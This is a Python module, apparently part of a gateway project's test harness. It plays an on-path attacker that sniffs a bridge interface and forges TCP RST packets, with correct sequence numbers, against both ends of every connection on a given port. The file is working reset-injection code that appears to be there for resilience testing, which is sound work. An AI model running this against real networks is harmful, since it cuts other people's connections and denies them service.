"""Someone on the wire who resets every connection to a port, in both directions, with the right sequence numbers.

Run in the namespace of the bridge as `python -m hostile.resetter INTERFACE PORT`. It prints `ready`, goes on until stdin
ends, and then prints how many resets it has sent.
"""

from __future__ import annotations

import select
import socket
import struct
import sys

from kube_gateway.observe.packets import Segment, parse_frame

_ALL = 0x0003
_SYN, _RST, _ACK = 0x02, 0x04, 0x10


def checksum(data: bytes) -> int:
    padded = data + b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def reset(source: str, source_port: int, to: str, to_port: int, sequence: int, acknowledgement: int) -> bytes:
    """An IPv4 packet with an RST (RFC 9293, 3.1)."""
    addresses = socket.inet_aton(source) + socket.inet_aton(to)
    ports = struct.pack(">HH", source_port, to_port)
    numbers = struct.pack(">II", sequence % 2**32, acknowledgement % 2**32)

    def header(check: int) -> bytes:
        return ports + numbers + struct.pack(">BBHHH", 5 << 4, _RST | _ACK, 0, check, 0)

    tcp = header(checksum(addresses + struct.pack(">HH", socket.IPPROTO_TCP, 20) + header(0)))
    return struct.pack(">BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0) + addresses + tcp


def resets(segment: Segment) -> list[tuple[bytes, str]]:
    """For both ends: to the receiver as what comes next, to the sender as what it waits for."""
    after = segment.sequence + len(segment.payload) + bool(segment.flags & _SYN)
    there = (segment.source, segment.source_port, segment.destination, segment.destination_port)
    back = (segment.destination, segment.destination_port, segment.source, segment.source_port)
    return [
        (reset(*there, after, segment.acknowledgement), segment.destination),
        (reset(*back, segment.acknowledgement, after), segment.source),
    ]


def main(interface: str, port: int) -> None:
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ALL))
    wire.bind((interface, 0))
    forger = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("ready", flush=True)
    sent = 0
    while True:
        ready, _, _ = select.select([wire, sys.stdin], [], [])
        if sys.stdin in ready:
            break
        segment = parse_frame(wire.recv(65536))
        if segment is None or port not in {segment.source_port, segment.destination_port}:
            continue
        if segment.flags & _RST or ":" in segment.source:
            continue
        for packet, to in resets(segment):
            forger.sendto(packet, (to, 0))
            sent += 1
    print(sent)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
